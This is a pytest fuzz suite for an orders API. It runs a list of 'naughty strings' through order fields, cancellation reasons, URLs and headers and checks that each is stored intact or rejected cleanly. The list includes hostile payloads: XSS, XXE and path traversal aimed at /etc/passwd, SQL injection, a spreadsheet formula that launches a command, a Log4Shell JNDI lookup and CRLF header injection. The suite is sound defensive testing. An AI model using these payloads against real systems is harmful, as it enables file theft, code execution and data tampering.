"""Strings that break programs, sent through every text of an order over DynamoDB.

A short list of our own; the idea is that of the Big List of Naughty Strings.
"""

import pytest

from orders import handler
from shared.texts import trim
from tests.http import Answer, call

STRINGS = [
    "\x00",
    "a\x00b",
    "".join(map(chr, range(1, 32))),
    "\x7f\x80\x9f",
    "\u200b\u200e\u202e\u2066",
    "\u202eдорогой клиент\u202c",
    "هَا، بَرَكَةُ",
    "Z̮̞̠͙͔ͅA̡͎L̡̈́GO",
    "👩‍👩‍👧‍👦🏳️‍🌈🇷🇺",
    "𝕋𝕖𝕤𝕥 ﷽ ﬀ",
    "\ufeff\ufffe\uffff",
    "ЁёЪъ№«»—",
    "Ω≈ç√∫˜µ≤≥÷",
    "社會科學院語學研究所",
    "<script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "'; DROP TABLE orders; --",
    '" OR ""="',
    "=cmd|' /C calc'!A0",
    "+7 900",
    "-2+3",
    "@SUM(1)",
    "../../../../etc/passwd",
    "%00%0d%0a%n%s%x",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}{% raw %}",
    "{0.__class__}",
    "line\r\nSet-Cookie: a=b",
    "\u2028\u2029\u0085",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "1e1000",
    "-0",
    "#attribute",
    ":placeholder",
    "ORDER#1",
    "\\",
    '\\"',
    "\\u0000",
    "я" * 200,
    "😀" * 200,
    "x" * 201,
    " ",
    "\u3000",
    "",
]
FIELDS = ("title", "description", "external_id", "customer", "line")


def ask(method: str, path: str, **parts) -> Answer:
    return call(handler.lambda_handler, method, path, **parts)


def body_with(field: str, text: str) -> dict:
    body = {"title": "A", "customer": {"name": "A"}}
    if field == "customer":
        return body | {"customer": {"name": text}}
    if field == "line":
        return body | {"items": [{"name": text, "unit_price": 1}]}
    return body | {field: text}


def read_from(field: str, order: dict) -> str:
    if field == "customer":
        return order["customer_name"]
    return order["items"][0]["name"] if field == "line" else order[field]


@pytest.mark.parametrize("field", FIELDS)
def test_a_hostile_text_is_kept_as_it_is_or_refused_under_its_name(room, field):
    for text in STRINGS:
        made = ask("POST", "/v1/orders", body=body_with(field, text))
        assert made.status in {201, 422}, (text, made.text)
        if made.status == 422:
            assert made.json["errors"][0]["field"].startswith(("items", field))
        else:
            assert read_from(field, made.json) == trim(text)


def test_storage_gives_every_hostile_text_back(stored_room):
    for text in [each for each in STRINGS if 0 < len(each.strip()) <= 128]:
        everywhere = dict.fromkeys(("title", "description", "external_id"), text)
        people = {"customer": {"name": text}, "items": [{"name": text, "unit_price": 1}]}
        made = ask("POST", "/v1/orders", body=everywhere | people)
        if made.status == 201:
            assert ask("GET", f"/v1/orders/{made.json['id']}").text == made.text
        else:
            assert made.status == 422, (text, made.text)

    listed = ask("GET", "/v1/orders", query={"limit": 200})
    assert listed.status == 200
    assert len(listed.json["items"]) > len(STRINGS) / 2


def test_a_hostile_reason_is_kept_or_refused(room):
    for text in STRINGS:
        order_id = ask("POST", "/v1/orders", body=body_with("title", "A")).json["id"]
        body = {"to": "cancelled", "reason": text, "cancelled_by": "company"}
        answer = ask("POST", f"/v1/orders/{order_id}/transitions", body=body)
        assert answer.status in {200, 422}, (text, answer.text)
        if answer.status == 200:
            assert answer.json["cancel_reason"] == trim(text)


@pytest.mark.parametrize("field", ["hold_reason", "technician_id", "to", "occurred_at"])
def test_a_hostile_text_in_a_move_never_breaks_us(room, field):
    order_id = ask("POST", "/v1/orders", body=body_with("title", "A")).json["id"]

    for text in STRINGS:
        body = {"to": "scheduled", "reason": "x"} | {field: text}
        answer = ask("POST", f"/v1/orders/{order_id}/transitions", body=body)
        assert answer.status == 422, (text, answer.text)


def test_a_hostile_text_in_the_address_and_the_headers_never_breaks_us(stored_room):
    for text in STRINGS:
        headers = {"If-Match": text, "Idempotency-Key": text}
        answers = [
            ask("GET", f"/v1/orders/{text}"),
            ask("GET", f"/v1/customers/{text}"),
            ask("GET", "/v1/orders", query={"cursor": text, "status": text}),
            ask("PATCH", "/v1/orders/ord_1", body={"title": "A"}, headers=headers),
            ask("POST", "/v1/orders", body=body_with("title", "A"), headers=headers),
        ]
        assert all(answer.status < 500 for answer in answers), (text, answers)


def test_a_hostile_name_of_a_technician_is_listed_again(stored_room):
    taken = [ask("POST", "/v1/technicians", body={"name": text}) for text in STRINGS]

    assert {answer.status for answer in taken} == {201, 422}
    listed = ask("GET", "/v1/technicians")
    names = [each["name"] for each in listed.json["items"]]
    assert len(names) == 1 + sum(answer.status == 201 for answer in taken)
